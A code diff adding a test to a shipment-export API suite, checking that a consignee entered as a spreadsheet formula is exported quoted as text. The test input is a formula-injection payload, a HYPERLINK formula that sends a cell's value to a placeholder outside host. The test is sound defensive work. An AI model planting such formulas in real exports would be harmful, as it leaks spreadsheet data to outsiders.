@@ -4,6 +4,8 @@ route comparison, the anchored history, and the shipment list with filters and C
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 from ftz.core.rules import load_golden
@@ -162,3 +164,13 @@ def test_every_edit_window_row_has_a_golden_case() -> None:
     cases = [c for c in load_golden(rules().folder) if c.decision == "edit_window.json"]
     fired = {rules().evaluate("edit_window.json", c.input).fired[0].row_id for c in cases}
     assert {row["_id"] for row in table["content"]["rules"]} == fired
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(lu: ApiClients) -> None:
+    """A consignee typed as a formula is exported quoted, so a spreadsheet shows it as text."""
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    shipment = _file(lu, {**SHIPMENT, "consignee": typed})
+    exported = lu.as_("lu.wuhu").get(f"{API}/shipments.csv").text
+    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
+             if r["shipment"] == shipment["number"]]  # fmt: skip
+    assert row["consignee"] == "'" + typed
